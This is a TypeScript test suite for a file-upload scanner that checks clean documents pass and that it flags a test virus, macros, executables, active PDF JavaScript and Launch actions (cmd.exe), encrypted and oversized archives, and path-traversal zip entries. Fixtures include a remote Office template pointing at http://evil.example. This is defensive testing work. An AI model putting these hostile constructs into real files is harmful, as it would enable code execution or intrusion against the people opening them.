import { crc32 } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { locked, oldOffice, packed, pdf, testVirus, workbookParts, zip } from './contents.fixture.ts';
import { inspect, isUnpackable } from './inspect.ts';
import { testVirusWatch } from './signatures.ts';

async function kindOf(content: Buffer): Promise<string> {
  return (await inspect(content))?.kind ?? 'clean';
}

describe('the built-in check', () => {
  test('HRD-08 papers pass: a text, a picture, a workbook, a plain PDF, a signed one and a form', async () => {
    const signature =
      '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 1 2 3] /Contents <00> >>';
    const form = '<< /Type /Catalog /AcroForm << /Fields [2 0 R] /SigFlags 3 >> /OpenAction [3 0 R /Fit] >>';
    for (const content of [
      Buffer.from('Báo cáo tháng 6'),
      Buffer.from('89504e470d0a1a0a0000', 'hex'),
      await zip(workbookParts),
      await zip({ 'hồ sơ/a.pdf': pdf('<< /Type /Catalog >>'), 'b.txt': 'x' }),
      pdf('<< /Type /Catalog >>', packed('/Type /ObjStm', '<< /Type /Page >>')),
      pdf(form, signature, '<< /FT /Tx /A << /S /URI /URI (https://portal.example.vn) >> >>'),
      pdf('<< /Type /Catalog >>', packed('/Type /EmbeddedFile /Subtype /text#2Fxml', '<invoice/>')),
      oldOffice('Workbook', 'SummaryInformation'),
    ])
      expect([content.subarray(0, 60).toString('latin1'), await kindOf(content)]).toEqual([
        content.subarray(0, 60).toString('latin1'),
        'clean',
      ]);
  });

  test('HRD-08 the test virus is found as it is, in an archive and in an archive within it', async () => {
    expect(await kindOf(testVirus)).toBe('virus');
    expect(await kindOf(await zip({ 'a.txt': testVirus }))).toBe('virus');
    expect(await kindOf(await zip({ 'a.zip': await zip({ 'b.txt': testVirus }) }))).toBe('virus');
  });

  test('HRD-08 macros are found in new and old documents, whatever their part or extension is called', async () => {
    for (const content of [
      await zip({ ...workbookParts, 'xl/vbaProject.bin': 'x' }),
      await zip({ ...workbookParts, 'xl/macrosheets/sheet1.xml': 'x' }),
      await zip({
        ...workbookParts,
        '[Content_Types].xml': '<Override ContentType="application/vnd.ms-office.vbaProject"/>',
      }),
      await zip({ 'báo cáo.XLSM': 'x' }),
      await zip({ 'a.xlsx': await zip({ ...workbookParts, 'xl/vbaProject.bin': 'x' }) }),
      oldOffice('Workbook', '_VBA_PROJECT_CUR', 'VBA'),
      Buffer.concat([oldOffice('Workbook'), boundSheet({ type: 1 })]),
    ])
      expect(await kindOf(content)).toBe('macro');
    expect(await kindOf(Buffer.concat([oldOffice('Workbook'), boundSheet({ type: 0 })]))).toBe('clean');
  });

  test('HRD-08 programs are found by what they are and by what a double click would start', async () => {
    for (const content of [
      Buffer.from('MZ\u0090'),
      await zip({ 'ảnh.png': 'MZ program' }),
      await zip({ 'hợp đồng.pdf.lnk': 'x' }),
      oldOffice('WordDocument', '\u0001Ole10Native'),
      pdf('<< /Type /Catalog >>', packed('/Type /EmbeddedFile', 'MZ program')),
    ])
      expect(await kindOf(content)).toBe('program');
  });

  test('HRD-08 active PDF is found in plain sight, written in hex, and packed away', async () => {
    const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
    for (const content of [
      pdf(`<< /Type /Catalog /OpenAction ${script} >>`),
      pdf('<< /OpenAction << /S /#4aava#53cript /#4a#53 (x) >> >>'),
      pdf('<< /Type /Catalog /OpenAction 4 0 R >>', packed('/Type /ObjStm /N 1', script)),
      pdf('<< /A << /S /Launch /F (cmd.exe) >> >>'),
      pdf('% stream\n<< /A << /S /Launch >> >>'),
      pdf('<< /Type /Annot /Subtype /RichMedia >>'),
      pdf(
        '<< /XFA 2 0 R >>',
        packed('', '<xdp:xdp><script contentType="application/x-javascript">x</script></xdp:xdp>'),
      ),
      Buffer.concat([Buffer.from('GIF89a'), pdf(script)]),
      await zip({ 'a.pdf': pdf(script) }),
      await zip({
        ...workbookParts,
        'word/_rels/settings.xml.rels':
          '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>',
      }),
    ])
      expect(await kindOf(content)).toBe('active');
  });

  test('HRD-08 what has a password cannot be looked at: ZIP, PDF, Office, RAR of both kinds', async () => {
    for (const content of [
      locked(await zip({ 'a.txt': 'x' })),
      await zip({ 'a.zip': locked(await zip({ 'a.txt': 'x' })) }),
      pdf('<< /Type /Catalog >>', '<< /Encrypt << /Filter /Standard >> >>'),
      oldOffice('EncryptionInfo', 'EncryptedPackage'),
      newRar(4),
      oldRar(0x73, 0x80),
      oldRar(0x74, 0x04),
    ])
      expect(await kindOf(content)).toBe('encrypted');
    expect(await kindOf(newRar(1))).toBe('clean');
    expect(await kindOf(oldRar(0x74, 0))).toBe('clean');
    expect([isUnpackable(newRar(1)), isUnpackable(await zip({}))]).toEqual([true, false]);
  });

  test('HRD-08 an archive that unpacks to too much, or lies too deep, ends the search with a refusal', async () => {
    let nested = await zip({ 'a.txt': 'x' });
    for (let depth = 0; depth < 5; depth += 1) nested = await zip({ 'a.zip': nested });
    expect(await kindOf(nested)).toBe('depth');
    expect(await kindOf(await zip({ 'a.txt': Buffer.alloc(130 * 1024 * 1024) }))).toBe('depth');
    expect(await kindOf(pdf(packed('', Buffer.alloc(257 * 1024 * 1024))))).toBe('depth');
  }, 60_000);

  test('HRD-08 an archive that does not open whole, is packed otherwise, or leads out of its folder is let in by nobody', async () => {
    const macro = await zip({ ...workbookParts, 'xl/vbaProject.bin': 'x' });
    const end = macro.lastIndexOf(Buffer.from('504b0506', 'hex'));
    const changed = (at: number, value: number) => {
      const copy = Buffer.from(macro);
      copy.writeUInt16LE(value, at);
      return copy;
    };
    const otherMethod = Buffer.from(await zip({ 'a.txt': 'x' }));
    otherMethod.writeUInt16LE(14, otherMethod.indexOf(Buffer.from('504b0102', 'hex')) + 10);
    for (const [what, content] of [
      ['one byte more', Buffer.concat([macro, Buffer.from('x')])],
      ['cut', macro.subarray(0, -1)],
      ['without its directory', macro.subarray(0, end)],
      ['a comment that is not there', changed(end + 20, 9)],
      ['on another disk', changed(end + 4, 1)],
      ['packed by LZMA', otherMethod],
      ['out of its folder', await zip({ '../a.txt': 'x' })],
      ['from the root', await zip({ '/a/a.txt': 'x' })],
    ] as const)
      expect([what, await kindOf(content)]).toEqual([what, 'unreadable']);
    // The sign of an archive's end in the middle of a picture is chance.
    const picture = Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      Buffer.from('504b0506', 'hex'),
      Buffer.alloc(999),
    ]);
    expect(await kindOf(picture)).toBe('clean');
  });

  test('HRD-08 the test virus is found in a stream, wherever it is cut', () => {
    const content = Buffer.concat([Buffer.alloc(100, 1), testVirus, Buffer.alloc(100, 1)]);
    for (const size of [1, 7, 67, 68, 69, 150, 300]) {
      const watch = testVirusWatch();
      const seen: boolean[] = [];
      for (let at = 0; at < content.length; at += size) seen.push(watch.sees(content.subarray(at, at + size)));
      expect([size, seen.includes(true)]).toEqual([size, true]);
    }
    expect(testVirusWatch().sees(testVirus.subarray(1))).toBe(false);
  });
});

// BOUNDSHEET8: number, length, place (4), state, type, letters, width, name.
function boundSheet({ type }: { type: number }): Buffer {
  return Buffer.concat([Buffer.of(0x85, 0, 11, 0, 0, 0, 0, 0, 0, type, 3, 0), Buffer.from('abc')]);
}

function newRar(type: number): Buffer {
  const block = Buffer.of(2, type, 0);
  const sum = Buffer.alloc(4);
  sum.writeUInt32LE(crc32(block));
  return Buffer.concat([Buffer.from('526172211a070100', 'hex'), sum, block, Buffer.alloc(8)]);
}

function oldRar(type: number, flags: number): Buffer {
  const block = Buffer.alloc(13);
  block.writeUInt8(type, 2);
  block.writeUInt16LE(flags, 3);
  block.writeUInt16LE(13, 5);
  block.writeUInt16LE(crc32(block.subarray(2)) & 0xffff, 0);
  return Buffer.concat([Buffer.from('526172211a0700', 'hex'), block]);
}
